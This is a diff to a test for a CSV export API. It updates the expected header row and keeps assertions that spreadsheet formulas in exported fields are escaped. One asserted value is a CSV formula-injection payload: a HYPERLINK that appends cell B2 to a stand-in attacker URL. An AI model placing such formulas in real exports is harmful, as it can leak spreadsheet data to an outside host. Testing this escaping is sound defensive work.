@@ -298,7 +298,7 @@ describe("GET /api/mappings/export", () => {
       /^attachment; filename="mappings-\d{4}-\d{2}-\d{2}\.csv"$/,
     );
     expect(csv.text.split("\r\n")[0]).toBe(
-      "id,url,htmlContent,match,status,publishAt,unpublishAt,position,selector,seoTitle,seoDescription,seoCanonical,seoRobots,seoJsonLd,createdAt,publishedAt,totalRequests,contentDeliveryCount",
+      "id,url,htmlContent,match,status,publishAt,unpublishAt,position,selector,seoTitle,seoDescription,seoCanonical,seoRobots,seoJsonLd,audience,priority,createdAt,publishedAt,totalRequests,contentDeliveryCount",
     );
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.test"")"`);
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")\n<p>x</p>"`);
